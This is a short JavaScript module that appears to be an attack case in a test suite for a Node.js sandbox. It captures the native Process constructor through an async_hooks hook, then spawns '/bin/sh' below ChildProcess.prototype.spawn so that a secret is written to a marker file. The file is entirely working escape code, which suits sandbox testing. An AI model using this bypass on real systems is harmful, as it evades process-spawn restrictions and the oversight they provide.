// An async_hooks init hook hands out the native Process handle of one allowed child (/bin/echo);
// a fresh one of that class spawns a shell, below ChildProcess.prototype.spawn.
import asyncHooks from 'node:async_hooks';
import { spawn } from 'node:child_process';
export const meta = { kind: 'exec', evidence: 'file' };
export default function attack(ctx) {
  return new Promise((resolve, reject) => {
    let Process;
    const hook = asyncHooks.createHook({
      init(_id, type, _trigger, resource) {
        if (type === 'PROCESSWRAP') Process = resource.constructor;
      },
    }).enable();
    const allowed = spawn('/bin/echo', ['hello'], { stdio: 'ignore' });
    allowed.on('error', reject);
    allowed.on('close', () => {
      hook.disable();
      try {
        const child = new Process();
        child.onexit = () => resolve('spawned');
        const file = '/bin/sh';
        const args = ['/bin/sh', '-c', `printf %s "$0" > "$1"`, ctx.secret, ctx.marker];
        const envPairs = [`PATH=${process.env.PATH ?? '/usr/bin:/bin'}`];
        const stdio = [{ type: 'ignore' }, { type: 'ignore' }, { type: 'ignore' }];
        // Node 24 takes the options as positional arguments, earlier versions as one object.
        const err = Number(process.versions.node.split('.')[0]) >= 24
          ? child.spawn(file, args, undefined, envPairs, stdio, 0, undefined, undefined)
          : child.spawn({ file, args, cwd: process.cwd(), envPairs, stdio, detached: false, windowsHide: false, windowsVerbatimArguments: false });
        if (err) reject(new Error(`spawn error ${err}`));
      } catch (error) {
        reject(error);
      }
    });
  });
}
